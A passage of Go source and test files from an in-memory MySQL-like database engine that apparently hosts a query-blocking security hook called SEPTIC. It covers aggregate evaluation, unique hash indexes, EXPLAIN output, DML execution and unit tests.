			v, err := agg.eval(f.Expr, g.rows)
			if err != nil {
				return nil, err
			}
			projected = append(projected, v)
		}
		out = append(out, projected)
		if len(s.OrderBy) > 0 {
			rowKeys := make([]Value, 0, len(s.OrderBy))
			for _, o := range s.OrderBy {
				if lit, ok := o.Expr.(*sqlparser.Literal); ok && lit.Kind == sqlparser.LiteralInt {
					idx := int(lit.Int)
					if idx < 1 || idx > len(projected) {
						return nil, fmt.Errorf("ORDER BY position %d out of range", idx)
					}
					rowKeys = append(rowKeys, projected[idx-1])
					continue
				}
				if col, ok := o.Expr.(*sqlparser.ColumnRef); ok {
					if idx := aliasIndex(s.Fields, col.Name); idx >= 0 {
						rowKeys = append(rowKeys, projected[idx])
						continue
					}
				}
				v, err := agg.eval(o.Expr, g.rows)
				if err != nil {
					return nil, err
				}
				rowKeys = append(rowKeys, v)
			}
			keys = append(keys, rowKeys)
		}
	}
	if len(s.OrderBy) > 0 {
		sortRows(out, keys, s.OrderBy)
	}
	var err error
	out, err = applyLimit(out, s.Limit, ev)
	if err != nil {
		return nil, err
	}
	return &Result{Columns: cols, Rows: out}, nil
}

// aggregator evaluates expressions over a group of rows: aggregate calls
// consume the whole group; everything else is evaluated on the first row
// (MySQL's permissive ONLY_FULL_GROUP_BY-off behaviour).
type aggregator struct {
	db *DB
	ev *evaluator
	sc *scope
}

func (a *aggregator) eval(e sqlparser.Expr, rows [][]Value) (Value, error) {
	switch x := e.(type) {
	case *sqlparser.FuncCall:
		if isAggregateName(x.Name) {
			return a.aggregate(x, rows)
		}
		args := make([]Value, 0, len(x.Args))
		for _, arg := range x.Args {
			v, err := a.eval(arg, rows)
			if err != nil {
				return Value{}, err
			}
			args = append(args, v)
		}
		return a.ev.callScalar(x.Name, args)
	case *sqlparser.BinaryExpr:
		switch x.Op {
		case "AND", "OR", "XOR":
			left, err := a.eval(x.Left, rows)
			if err != nil {
				return Value{}, err
			}
			right, err := a.eval(x.Right, rows)
			if err != nil {
				return Value{}, err
			}
			switch x.Op {
			case "AND":
				if (!left.IsNull() && !left.AsBool()) || (!right.IsNull() && !right.AsBool()) {
					return Bool(false), nil
				}
				if left.IsNull() || right.IsNull() {
					return Null(), nil
				}
				return Bool(true), nil
			case "OR":
				if (!left.IsNull() && left.AsBool()) || (!right.IsNull() && right.AsBool()) {
					return Bool(true), nil
				}
				if left.IsNull() || right.IsNull() {
					return Null(), nil
				}
				return Bool(false), nil
			default:
				if left.IsNull() || right.IsNull() {
					return Null(), nil
				}
				return Bool(left.AsBool() != right.AsBool()), nil
			}
		}
		left, err := a.eval(x.Left, rows)
		if err != nil {
			return Value{}, err
		}
		right, err := a.eval(x.Right, rows)
		if err != nil {
			return Value{}, err
		}
		switch x.Op {
		case "=", "<>", "<", "<=", ">", ">=":
			cmp, ok := Compare(left, right)
			if !ok {
				return Null(), nil
			}
			var res bool
			switch x.Op {
			case "=":
				res = cmp == 0
			case "<>":
				res = cmp != 0
			case "<":
				res = cmp < 0
			case "<=":
				res = cmp <= 0
			case ">":
				res = cmp > 0
			case ">=":
				res = cmp >= 0
			}
			return Bool(res), nil
		default:
			if left.IsNull() || right.IsNull() {
				return Null(), nil
			}
			return arith(x.Op, left, right)
		}
	case *sqlparser.UnaryExpr:
		v, err := a.eval(x.Operand, rows)
		if err != nil {
			return Value{}, err
		}
		if x.Op == "NOT" {
			if v.IsNull() {
				return Null(), nil
			}
			return Bool(!v.AsBool()), nil
		}
		if v.Kind == KindInt {
			return Int(-v.I), nil
		}
		return Float(-v.AsFloat()), nil
	default:
		if len(rows) == 0 {
			return Null(), nil
		}
		a.sc.row = rows[0]
		return a.ev.eval(e, a.sc)
	}
}

func (a *aggregator) aggregate(x *sqlparser.FuncCall, rows [][]Value) (Value, error) {
	if x.Name == "COUNT" && x.Star {
		return Int(int64(len(rows))), nil
	}
	if len(x.Args) != 1 {
		return Value{}, fmt.Errorf("%s expects one argument", x.Name)
	}
	values := make([]Value, 0, len(rows))
	seen := make(map[string]bool)
	for _, row := range rows {
		a.sc.row = row
		v, err := a.ev.eval(x.Args[0], a.sc)
		if err != nil {
			return Value{}, err
		}
		if v.IsNull() {
			continue
		}
		if x.Distinct {
			sig := fmt.Sprintf("%d:%s", v.Kind, v.String())
			if seen[sig] {
				continue
			}
			seen[sig] = true
		}
		values = append(values, v)
	}
	switch x.Name {
	case "COUNT":
		return Int(int64(len(values))), nil
	case "SUM":
		if len(values) == 0 {
			return Null(), nil
		}
		allInt := true
		var fi int64
		var ff float64
		for _, v := range values {
			if v.Kind != KindInt {
				allInt = false
			}
			fi += v.AsInt()
			ff += v.AsFloat()
		}
		if allInt {
			return Int(fi), nil
		}
		return Float(ff), nil
	case "AVG":
		if len(values) == 0 {
			return Null(), nil
		}
		var sum float64
		for _, v := range values {
			sum += v.AsFloat()
		}
		return Float(sum / float64(len(values))), nil
	case "MIN":
		if len(values) == 0 {
			return Null(), nil
		}
		best := values[0]
		for _, v := range values[1:] {
			if c, ok := Compare(v, best); ok && c < 0 {
				best = v
			}
		}
		return best, nil
	case "MAX":
		if len(values) == 0 {
			return Null(), nil
		}
		best := values[0]
		for _, v := range values[1:] {
			if c, ok := Compare(v, best); ok && c > 0 {
				best = v
			}
		}
		return best, nil
	case "GROUP_CONCAT":
		parts := make([]string, 0, len(values))
		for _, v := range values {
			parts = append(parts, v.String())
		}
		return Str(strings.Join(parts, ",")), nil
	default:
		return Value{}, fmt.Errorf("unknown aggregate %s", x.Name)
	}
}
