package engine

import (
	"strings"

	"github.com/septic-db/septic/internal/sqlparser"
)

// Unique hash indexes.
//
// Every PRIMARY KEY / UNIQUE column gets a hash index mapping the
// column-coerced value to its row position. The index serves two hot
// paths:
//
//   - uniqueness checks on INSERT/UPDATE, which would otherwise scan the
//     table per write (quadratic over workload replays);
//   - single-table point SELECTs of the form "WHERE col = literal",
//     which resolve without a scan.
//
// Concurrency contract: indexes are created at CREATE TABLE and
// maintained eagerly by every DML operation, all of which run under the
// owning table's write lock; DELETE rebuilds them (row positions shift).
// Readers (SELECT, under the table read lock) only ever look maps up —
// they never build or mutate, so no additional synchronization is
// needed.

// indexKey normalizes a value for index lookup. Stored values are
// already coerced to the column type, and lookups coerce the probe the
// same way, so MySQL's weak typing ("id = '42'" matching 42) works
// through the index exactly as it does through a scan.
func indexKey(v Value) string {
	return v.String()
}

// rebuildIndexes (re)creates the hash index of every unique column.
// Called at table creation and after operations that shift row
// positions. Runs under the DB write lock.
func (t *Table) rebuildIndexes() {
	t.indexes = make(map[int]map[string]int)
	for ci, col := range t.Columns {
		if !col.Unique {
			continue
		}
		idx := make(map[string]int, len(t.Rows))
		for ri, row := range t.Rows {
			if row[ci].IsNull() {
				continue // SQL UNIQUE permits many NULLs
			}
			idx[indexKey(row[ci])] = ri
		}
		t.indexes[ci] = idx
	}
}

// indexInsert registers a newly appended row (position len(Rows)-1).
func (t *Table) indexInsert(row []Value) {
	for ci, idx := range t.indexes {
		if row[ci].IsNull() {
			continue
		}
		idx[indexKey(row[ci])] = len(t.Rows) - 1
	}
}

// indexUpdate moves an updated row's index entries.
func (t *Table) indexUpdate(ri int, old, updated []Value) {
	for ci, idx := range t.indexes {
		if sameValue(old[ci], updated[ci]) {
			continue
		}
		if !old[ci].IsNull() {
			delete(idx, indexKey(old[ci]))
		}
		if !updated[ci].IsNull() {
			idx[indexKey(updated[ci])] = ri
		}
	}
}

// lookupUnique finds the row position holding value in unique column ci.
// The second result distinguishes "not found" from "no index" — callers
// fall back to a scan when no index exists.
func (t *Table) lookupUnique(ci int, value Value) (int, bool) {
	idx, ok := t.indexes[ci]
	if !ok {
		return -1, false
	}
	coerced, err := t.Columns[ci].coerce(value)
	if err != nil || coerced.IsNull() {
		return -1, true
	}
	ri, found := idx[indexKey(coerced)]
	if !found {
		return -1, true
	}
	return ri, true
}

// pointLookup recognizes "SELECT ... FROM onetable WHERE col = literal"
// where col has a unique index, and resolves the row without a scan. The
// boolean reports whether the fast path applied; rows may be empty.
func (db *DB) pointLookup(s *sqlparser.SelectStmt) (*Table, [][]Value, bool) {
	if len(s.From) != 1 || s.From[0].Subquery != nil || s.Where == nil {
		return nil, nil, false
	}
	eq, ok := s.Where.(*sqlparser.BinaryExpr)
	if !ok || eq.Op != "=" {
		return nil, nil, false
	}
	col, lit := splitEq(eq)
	if col == nil || lit == nil {
		return nil, nil, false
	}
	t := db.tables[strings.ToLower(s.From[0].Name)]
	if t == nil {
		return nil, nil, false
	}
	// A qualified reference must name this table (or its alias).
	if col.Table != "" {
		alias := s.From[0].Alias
		if alias == "" {
			alias = s.From[0].Name
		}
		if !strings.EqualFold(col.Table, alias) {
			return nil, nil, false
		}
	}
	ci := t.colIndex(col.Name)
	if ci < 0 || !t.Columns[ci].Unique {
		return nil, nil, false
	}
	ri, indexed := t.lookupUnique(ci, literalValue(lit))
	if !indexed {
		return nil, nil, false
	}
	if ri < 0 {
		return t, nil, true
	}
	return t, [][]Value{t.Rows[ri]}, true
}

// splitEq extracts (column, literal) from "col = lit" or "lit = col".
func splitEq(eq *sqlparser.BinaryExpr) (*sqlparser.ColumnRef, *sqlparser.Literal) {
	if col, ok := eq.Left.(*sqlparser.ColumnRef); ok {
		if lit, ok := eq.Right.(*sqlparser.Literal); ok {
			return col, lit
		}
	}
	if col, ok := eq.Right.(*sqlparser.ColumnRef); ok {
		if lit, ok := eq.Left.(*sqlparser.Literal); ok {
			return col, lit
		}
	}
	return nil, nil
}
