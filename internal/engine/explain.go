package engine

import (
	"fmt"
	"strings"

	"github.com/septic-db/septic/internal/sqlparser"
)

// execExplain answers an EXPLAIN with the access plan the SELECT would
// use: one row per FROM source plus derived branches, in the spirit of
// MySQL's EXPLAIN output. Runs under the caller-held read lock.
func (db *DB) execExplain(s *sqlparser.ExplainStmt) (*Result, error) {
	res := &Result{Columns: []string{"table", "access_type", "detail"}}
	db.explainSelect(s.Select, res)
	return res, nil
}

func (db *DB) explainSelect(s *sqlparser.SelectStmt, res *Result) {
	// Point-lookup fast path?
	if t, _, ok := db.pointLookup(s); ok && !hasAggregates(s) {
		col := pointLookupColumn(s)
		res.Rows = append(res.Rows, []Value{
			Str(t.Name), Str("const"),
			Str(fmt.Sprintf("unique index lookup on %s", col)),
		})
		return
	}
	if len(s.From) == 0 {
		res.Rows = append(res.Rows, []Value{Str(""), Str("none"), Str("no tables used")})
	}
	for i, ref := range s.From {
		switch {
		case ref.Subquery != nil:
			name := ref.Alias
			if name == "" {
				name = "derived"
			}
			res.Rows = append(res.Rows, []Value{
				Str(name), Str("derived"), Str("materialized subquery"),
			})
			db.explainSelect(ref.Subquery, res)
		case i == 0:
			detail := "full scan"
			if t := db.tables[strings.ToLower(ref.Name)]; t != nil {
				detail = fmt.Sprintf("full scan (%d rows)", len(t.Rows))
			}
			res.Rows = append(res.Rows, []Value{Str(ref.Name), Str("ALL"), Str(detail)})
		default:
			join := ref.Join
			if join == "" {
				join = "CROSS"
			}
			res.Rows = append(res.Rows, []Value{
				Str(ref.Name), Str("ALL"),
				Str(fmt.Sprintf("nested-loop %s join", strings.ToLower(join))),
			})
		}
	}
	if hasAggregates(s) {
		res.Rows = append(res.Rows, []Value{Str(""), Str("aggregate"), Str("grouping pass")})
	}
	if s.Union != nil {
		res.Rows = append(res.Rows, []Value{Str(""), Str("union"), Str("result merge")})
		db.explainSelect(s.Union.Next, res)
	}
}

// pointLookupColumn names the indexed column of a fast-path query (for
// display only; pointLookup already validated the shape).
func pointLookupColumn(s *sqlparser.SelectStmt) string {
	eq, ok := s.Where.(*sqlparser.BinaryExpr)
	if !ok {
		return "?"
	}
	col, _ := splitEq(eq)
	if col == nil {
		return "?"
	}
	return col.Name
}
