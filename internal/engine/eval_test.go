package engine

import (
	"testing"
	"testing/quick"
)

func TestThreeValuedLogic(t *testing.T) {
	db := testDB(t)
	tests := []struct {
		q    string
		want string
	}{
		{"SELECT NULL AND 1", "NULL"},
		{"SELECT NULL AND 0", "0"},
		{"SELECT 0 AND NULL", "0"},
		{"SELECT NULL OR 1", "1"},
		{"SELECT 1 OR NULL", "1"},
		{"SELECT NULL OR 0", "NULL"},
		{"SELECT NULL XOR 1", "NULL"},
		{"SELECT 1 XOR 1", "0"},
		{"SELECT 1 XOR 0", "1"},
		{"SELECT NOT NULL", "NULL"},
		{"SELECT NOT 0", "1"},
		{"SELECT NOT 3", "0"},
	}
	for _, tt := range tests {
		res := mustExec(t, db, tt.q)
		if got := res.Rows[0][0].String(); got != tt.want {
			t.Errorf("%s = %q, want %q", tt.q, got, tt.want)
		}
	}
}

func TestUnaryMinusOnExpressions(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT -age FROM users WHERE name = 'ann'")
	if res.Rows[0][0].I != -31 {
		t.Errorf("got %v", res.Rows[0][0])
	}
	res = mustExec(t, db, "SELECT -(1.5 + 1)")
	if res.Rows[0][0].F != -2.5 {
		t.Errorf("got %v", res.Rows[0][0])
	}
	res = mustExec(t, db, "SELECT -NULL")
	if !res.Rows[0][0].IsNull() {
		t.Errorf("got %v", res.Rows[0][0])
	}
}

func TestAggregateExpressions(t *testing.T) {
	db := testDB(t)
	tests := []struct {
		q    string
		want string
	}{
		{"SELECT SUM(age) * 2 FROM users", "200"},
		{"SELECT MAX(age) - MIN(age) FROM users", "15"},
		{"SELECT COUNT(*) + COUNT(age) FROM users", "7"},
		{"SELECT UPPER(GROUP_CONCAT(name)) FROM users WHERE city = 'lisbon'", "ANN,CAL"},
		{"SELECT SUM(DISTINCT creditCard) FROM tickets", "6912"},
		{"SELECT -COUNT(*) FROM users", "-4"},
		{"SELECT IF(COUNT(*) > 3, 'many', 'few') FROM users", "many"},
	}
	for _, tt := range tests {
		res := mustExec(t, db, tt.q)
		if got := res.Rows[0][0].String(); got != tt.want {
			t.Errorf("%s = %q, want %q", tt.q, got, tt.want)
		}
	}
}

func TestHavingComplexConditions(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, `SELECT city, COUNT(*) FROM users GROUP BY city
		HAVING COUNT(*) > 1 AND SUM(age) > 10 ORDER BY city`)
	if len(res.Rows) != 1 || res.Rows[0][0].S != "lisbon" {
		t.Fatalf("rows = %v", res.Rows)
	}
	res = mustExec(t, db, `SELECT city FROM users GROUP BY city
		HAVING COUNT(*) = 1 OR MAX(age) > 40 ORDER BY city`)
	if len(res.Rows) != 2 { // faro (1), porto (1 & max 42)
		t.Fatalf("rows = %v", res.Rows)
	}
	res = mustExec(t, db, `SELECT city FROM users GROUP BY city
		HAVING NOT COUNT(*) = 1 ORDER BY city`)
	if len(res.Rows) != 1 || res.Rows[0][0].S != "lisbon" {
		t.Fatalf("rows = %v", res.Rows)
	}
	// faro's only user has NULL age, so its XOR is NULL and the group is
	// filtered; lisbon is false XOR false; porto is true XOR false.
	res = mustExec(t, db, `SELECT city FROM users GROUP BY city
		HAVING COUNT(*) = 1 XOR MAX(age) > 100 ORDER BY city`)
	if len(res.Rows) != 1 || res.Rows[0][0].S != "porto" {
		t.Fatalf("xor rows = %v", res.Rows)
	}
}

func TestHavingArithmeticAndComparisons(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, `SELECT city FROM users WHERE age IS NOT NULL
		GROUP BY city HAVING SUM(age) % 2 = 0 ORDER BY city`)
	// lisbon 31+27=58 even, porto 42 even.
	if len(res.Rows) != 2 {
		t.Fatalf("rows = %v", res.Rows)
	}
}

func TestValueStringRendering(t *testing.T) {
	tests := []struct {
		v    Value
		want string
	}{
		{Null(), "NULL"},
		{Int(-5), "-5"},
		{Float(2.5), "2.5"},
		{Str("x"), "x"},
		{Bool(true), "1"},
		{Bool(false), "0"},
		{Value{}, "<invalid>"},
	}
	for _, tt := range tests {
		if got := tt.v.String(); got != tt.want {
			t.Errorf("%#v.String() = %q, want %q", tt.v, got, tt.want)
		}
	}
}

func TestNumericPrefixParsing(t *testing.T) {
	tests := []struct {
		in   string
		want float64
	}{
		{"1234", 1234},
		{"1234abc", 1234},
		{"  42", 42},
		{"-7x", -7},
		{"+3", 3},
		{"3.5rest", 3.5},
		{"1e3", 1000},
		{"abc", 0},
		{"", 0},
		{".5", 0.5},
		{"-", 0},
	}
	for _, tt := range tests {
		if got := Str(tt.in).AsFloat(); got != tt.want {
			t.Errorf("numericPrefix(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}

func TestValueCoercions(t *testing.T) {
	if Bool(true).AsFloat() != 1 || Bool(false).AsFloat() != 0 {
		t.Error("bool to float")
	}
	if !Str("1x").AsBool() || Str("abc").AsBool() {
		t.Error("string truthiness")
	}
	if Null().AsBool() {
		t.Error("NULL must be falsy")
	}
	if Float(2.9).AsInt() != 2 {
		t.Error("float truncation")
	}
	if Int(7).AsInt() != 7 {
		t.Error("int identity")
	}
}

// TestCompareProperties: Compare is antisymmetric and Equal is
// consistent with it, for random numeric values.
func TestCompareProperties(t *testing.T) {
	f := func(a, b int64) bool {
		va, vb := Int(a), Int(b)
		c1, ok1 := Compare(va, vb)
		c2, ok2 := Compare(vb, va)
		if !ok1 || !ok2 {
			return false
		}
		if c1 != -c2 {
			return false
		}
		return Equal(va, vb) == (a == b)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestColTypeNames(t *testing.T) {
	for typ, want := range map[ColType]string{
		ColInt: "INT", ColFloat: "FLOAT", ColText: "TEXT",
		ColBool: "BOOL", ColDatetime: "DATETIME",
	} {
		if typ.String() != want {
			t.Errorf("%d.String() = %q", typ, typ.String())
		}
	}
	if _, err := colTypeFromName("BLOB"); err == nil {
		t.Error("unknown type must fail")
	}
}

func TestDatetimeColumnStoresCanonicalString(t *testing.T) {
	db := New()
	mustExec(t, db, "CREATE TABLE ev (at DATETIME)")
	mustExec(t, db, "INSERT INTO ev (at) VALUES ('2017-06-26 09:00:00')")
	res := mustExec(t, db, "SELECT at FROM ev WHERE at < '2018-01-01 00:00:00'")
	if len(res.Rows) != 1 {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestBoolColumnCoercion(t *testing.T) {
	db := New()
	mustExec(t, db, "CREATE TABLE f (ok BOOL)")
	mustExec(t, db, "INSERT INTO f (ok) VALUES (1), (0), ('yes'), (2.5)")
	res := mustExec(t, db, "SELECT COUNT(*) FROM f WHERE ok = TRUE")
	// 1 -> true, 0 -> false, 'yes' -> numeric prefix 0 -> false, 2.5 -> true
	if res.Rows[0][0].I != 2 {
		t.Errorf("count = %v, want 2", res.Rows[0][0])
	}
}

func TestCaseExpressions(t *testing.T) {
	db := testDB(t)
	tests := []struct {
		q    string
		want string
	}{
		{"SELECT CASE WHEN 1 > 2 THEN 'a' WHEN 2 > 1 THEN 'b' ELSE 'c' END", "b"},
		{"SELECT CASE WHEN 1 > 2 THEN 'a' END", "NULL"},
		{"SELECT CASE 3 WHEN 1 THEN 'one' WHEN 3 THEN 'three' ELSE 'other' END", "three"},
		{"SELECT CASE 9 WHEN 1 THEN 'one' ELSE 'other' END", "other"},
		{"SELECT CASE NULL WHEN NULL THEN 'null-eq' ELSE 'no' END", "no"}, // NULL never equals
	}
	for _, tt := range tests {
		res := mustExec(t, db, tt.q)
		if got := res.Rows[0][0].String(); got != tt.want {
			t.Errorf("%s = %q, want %q", tt.q, got, tt.want)
		}
	}
	// CASE over rows: conditional ORDER BY, the blind-injection shape.
	res := mustExec(t, db, `SELECT name FROM users WHERE age IS NOT NULL
		ORDER BY CASE WHEN age > 35 THEN 0 ELSE 1 END, name`)
	if res.Rows[0][0].S != "bob" {
		t.Errorf("conditional order rows = %v", res.Rows)
	}
}
