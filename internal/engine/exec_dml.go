package engine

import (
	"fmt"
	"strings"

	"github.com/septic-db/septic/internal/sqlparser"
)

// execInsert runs an INSERT under the caller-held write lock.
func (db *DB) execInsert(s *sqlparser.InsertStmt) (*Result, error) {
	t := db.tables[strings.ToLower(s.Table)]
	if t == nil {
		return nil, fmt.Errorf("%w: %s", ErrNoSuchTable, s.Table)
	}

	// Map the statement's column list to table column indices.
	var colIdx []int
	if len(s.Columns) == 0 {
		colIdx = make([]int, len(t.Columns))
		for i := range t.Columns {
			colIdx[i] = i
		}
	} else {
		colIdx = make([]int, len(s.Columns))
		for i, name := range s.Columns {
			idx := t.colIndex(name)
			if idx < 0 {
				return nil, fmt.Errorf("%w: %s.%s", ErrNoSuchColumn, s.Table, name)
			}
			colIdx[i] = idx
		}
	}

	var tuples [][]Value
	if s.Select != nil {
		res, err := db.execSelect(s.Select, nil)
		if err != nil {
			return nil, err
		}
		for _, r := range res.Rows {
			if len(r) != len(colIdx) {
				return nil, fmt.Errorf("INSERT..SELECT returned %d columns, want %d",
					len(r), len(colIdx))
			}
			tuples = append(tuples, r)
		}
	} else {
		ev := &evaluator{db: db}
		empty := newScope(nil)
		for _, row := range s.Rows {
			tuple := make([]Value, 0, len(row))
			for _, e := range row {
				v, err := ev.eval(e, empty)
				if err != nil {
					return nil, err
				}
				tuple = append(tuple, v)
			}
			tuples = append(tuples, tuple)
		}
	}

	res := &Result{}
	for _, tuple := range tuples {
		newRow := make([]Value, len(t.Columns))
		assigned := make([]bool, len(t.Columns))
		for i, idx := range colIdx {
			v, err := t.Columns[idx].coerce(tuple[i])
			if err != nil {
				return nil, err
			}
			newRow[idx] = v
			assigned[idx] = true
		}
		for i := range t.Columns {
			if assigned[i] {
				continue
			}
			col := &t.Columns[i]
			switch {
			case col.AutoIncrement:
				newRow[i] = Int(t.nextAuto)
				t.nextAuto++
				res.LastInsertID = newRow[i].I
			case col.Default != nil:
				newRow[i] = *col.Default
			case col.NotNull:
				return nil, fmt.Errorf("column %q has no default and cannot be null", col.Name)
			default:
				newRow[i] = Null()
			}
		}
		// Track explicit values into AUTO_INCREMENT columns so the
		// counter never hands out a duplicate.
		for i := range t.Columns {
			if t.Columns[i].AutoIncrement && assigned[i] && newRow[i].Kind == KindInt && newRow[i].I >= t.nextAuto {
				t.nextAuto = newRow[i].I + 1
			}
		}
		if err := t.checkUnique(newRow, -1); err != nil {
			return nil, err
		}
		t.Rows = append(t.Rows, newRow)
		t.indexInsert(newRow)
		res.Affected++
	}
	return res, nil
}

// checkUnique verifies the candidate row violates no UNIQUE constraint.
// skip is a row index to ignore (the row being updated), or -1. Indexed
// columns answer in O(1); a missing index (never expected, but cheap to
// tolerate) falls back to a scan.
func (t *Table) checkUnique(candidate []Value, skip int) error {
	for ci, col := range t.Columns {
		if !col.Unique || candidate[ci].IsNull() {
			continue
		}
		if ri, indexed := t.lookupUnique(ci, candidate[ci]); indexed {
			if ri >= 0 && ri != skip {
				return fmt.Errorf("%w %q for column %q", ErrDuplicate,
					candidate[ci].String(), col.Name)
			}
			continue
		}
		for ri, row := range t.Rows {
			if ri == skip {
				continue
			}
			if Equal(row[ci], candidate[ci]) {
				return fmt.Errorf("%w %q for column %q", ErrDuplicate,
					candidate[ci].String(), col.Name)
			}
		}
	}
	return nil
}

// execUpdate runs an UPDATE under the caller-held write lock.
func (db *DB) execUpdate(s *sqlparser.UpdateStmt) (*Result, error) {
	t := db.tables[strings.ToLower(s.Table)]
	if t == nil {
		return nil, fmt.Errorf("%w: %s", ErrNoSuchTable, s.Table)
	}
	ev := &evaluator{db: db}
	sc := tableScope(t)

	targets, err := db.dmlTargets(t, s.Where, s.OrderBy, s.Limit, sc, ev)
	if err != nil {
		return nil, err
	}

	setIdx := make([]int, len(s.Sets))
	for i, a := range s.Sets {
		idx := t.colIndex(a.Column)
		if idx < 0 {
			return nil, fmt.Errorf("%w: %s.%s", ErrNoSuchColumn, s.Table, a.Column)
		}
		setIdx[i] = idx
	}

	res := &Result{}
	for _, ri := range targets {
		sc.row = t.Rows[ri]
		updated := make([]Value, len(t.Rows[ri]))
		copy(updated, t.Rows[ri])
		changed := false
		for i, a := range s.Sets {
			v, err := ev.eval(a.Value, sc)
			if err != nil {
				return nil, err
			}
			cv, err := t.Columns[setIdx[i]].coerce(v)
			if err != nil {
				return nil, err
			}
			if !sameValue(updated[setIdx[i]], cv) {
				changed = true
			}
			updated[setIdx[i]] = cv
		}
		if !changed {
			continue
		}
		if err := t.checkUnique(updated, ri); err != nil {
			return nil, err
		}
		old := t.Rows[ri]
		t.Rows[ri] = updated
		t.indexUpdate(ri, old, updated)
		res.Affected++
	}
	return res, nil
}

// execDelete runs a DELETE under the caller-held write lock.
func (db *DB) execDelete(s *sqlparser.DeleteStmt) (*Result, error) {
	t := db.tables[strings.ToLower(s.Table)]
	if t == nil {
		return nil, fmt.Errorf("%w: %s", ErrNoSuchTable, s.Table)
	}
	ev := &evaluator{db: db}
	sc := tableScope(t)

	targets, err := db.dmlTargets(t, s.Where, s.OrderBy, s.Limit, sc, ev)
	if err != nil {
		return nil, err
	}
	if len(targets) == 0 {
		return &Result{}, nil
	}
	doomed := make(map[int]bool, len(targets))
	for _, ri := range targets {
		doomed[ri] = true
	}
	kept := t.Rows[:0]
	for ri, row := range t.Rows {
		if !doomed[ri] {
			kept = append(kept, row)
		}
	}
	t.Rows = kept
	// Row positions shifted: the unique indexes must be rebuilt.
	t.rebuildIndexes()
	return &Result{Affected: int64(len(targets))}, nil
}

// dmlTargets returns the indices of rows selected by WHERE, ordered by
// ORDER BY and truncated by LIMIT (MySQL supports both on UPDATE/DELETE).
func (db *DB) dmlTargets(t *Table, where sqlparser.Expr, orderBy []sqlparser.OrderItem,
	limit *sqlparser.Limit, sc *scope, ev *evaluator) ([]int, error) {
	var targets []int
	for ri, row := range t.Rows {
		if where != nil {
			sc.row = row
			v, err := ev.eval(where, sc)
			if err != nil {
				return nil, err
			}
			if v.IsNull() || !v.AsBool() {
				continue
			}
		}
		targets = append(targets, ri)
	}
	if len(orderBy) > 0 {
		keys := make([][]Value, len(targets))
		for i, ri := range targets {
			sc.row = t.Rows[ri]
			rowKeys := make([]Value, 0, len(orderBy))
			for _, o := range orderBy {
				v, err := ev.eval(o.Expr, sc)
				if err != nil {
					return nil, err
				}
				rowKeys = append(rowKeys, v)
			}
			keys[i] = rowKeys
		}
		rows := make([][]Value, len(targets))
		for i, ri := range targets {
			rows[i] = []Value{Int(int64(ri))}
		}
		sortRows(rows, keys, orderBy)
		for i, r := range rows {
			targets[i] = int(r[0].I)
		}
	}
	if limit != nil {
		count, err := ev.eval(limit.Count, newScope(nil))
		if err != nil {
			return nil, err
		}
		n := int(count.AsInt())
		if n >= 0 && n < len(targets) {
			targets = targets[:n]
		}
	}
	return targets, nil
}

// tableScope builds a single-table scope for DML evaluation.
func tableScope(t *Table) *scope {
	sc := newScope(nil)
	cols := make([]string, len(t.Columns))
	for i, c := range t.Columns {
		cols[i] = c.Name
	}
	sc.addSource(t.Name, cols)
	return sc
}

// sameValue reports strict equality including NULL==NULL (used to count
// affected rows the way MySQL does: unchanged rows are not counted).
func sameValue(a, b Value) bool {
	if a.IsNull() && b.IsNull() {
		return true
	}
	if a.IsNull() != b.IsNull() {
		return false
	}
	return a.Kind == b.Kind && a.String() == b.String()
}
