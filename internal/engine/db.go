package engine

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/faultinject"
	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/sqlparser"
	"github.com/septic-db/septic/internal/txtcache"
)

// HookContext is what the engine hands to the registered QueryHook for
// each statement, after parsing and validation and before execution. It
// corresponds to the "Q received, parsed & validated by the DBMS" input
// of Fig. 1.
type HookContext struct {
	// Raw is the query text exactly as received from the client.
	Raw string
	// Decoded is the query text after charset decoding — what the parser
	// actually consumed. Raw != Decoded signals confusable folding.
	Decoded string
	// Stmt is the validated statement. It may be shared with the engine's
	// parse cache and with other sessions executing the same query text:
	// hooks must treat it as read-only.
	Stmt sqlparser.Statement
	// Comments are the comment bodies found in the query, in order. The
	// first one may carry the application-supplied external identifier.
	Comments []string
	// App is the session-declared application name, empty when the
	// session never declared one. The wire server binds it per
	// connection (HELLO handshake) and threads it through
	// ExecAppContext; hooks use it to route the query to its protection
	// domain, with priority over any comment-borne prefix.
	App string
}

// QueryHook observes validated queries immediately before execution.
// Returning an error that wraps ErrQueryBlocked makes the engine drop
// the query; any other error also aborts execution but is reported as an
// engine failure rather than a security block. SEPTIC implements this
// interface.
type QueryHook interface {
	BeforeExecute(ctx *HookContext) error
}

// Stats counts engine activity; read with DB.Stats.
type Stats struct {
	Executed int64
	Blocked  int64
	Failed   int64
}

// Option configures a DB at construction time.
type Option func(*DB)

// WithQueryHook installs the security hook (SEPTIC). Passing nil leaves
// the engine unprotected, like a stock MySQL.
func WithQueryHook(h QueryHook) Option {
	return func(db *DB) { db.hook.Store(&h) }
}

// WithClock injects the time source used by NOW(); defaults to time.Now.
// Benchmarks and tests inject a fixed clock for determinism.
func WithClock(clock func() time.Time) Option {
	return func(db *DB) { db.clock = clock }
}

// DefaultParseCacheCapacity bounds the statement cache when the
// deployment does not choose its own size. An application's set of
// distinct statement texts is small; 4096 entries hold it with headroom.
const DefaultParseCacheCapacity = 4096

// WithParseCacheCapacity bounds the parsed-statement cache to n entries;
// n = 0 disables statement caching (every Exec re-parses).
func WithParseCacheCapacity(n int) Option {
	return func(db *DB) { db.parseCap = n }
}

// WithObs installs an observability hub: per-stage latency histograms
// (parse split by parse-cache hit/miss, validate, hook, execute, total)
// and engine/parse-cache counters exported as gauge funcs. The default —
// no hub — keeps the pipeline on its zero-instrumentation path behind a
// single nil check.
func WithObs(h *obs.Hub) Option {
	return func(db *DB) { db.obsHub = h }
}

// DB is an in-memory database instance. It is safe for concurrent use by
// multiple goroutines ("client diversity": many sessions, one server).
//
// Locking is two-level (see lockplan.go): the catalog RWMutex guards the
// tables map — DDL exclusively, everything else shared — and each Table
// has its own RWMutex, so writes to one table never block reads of
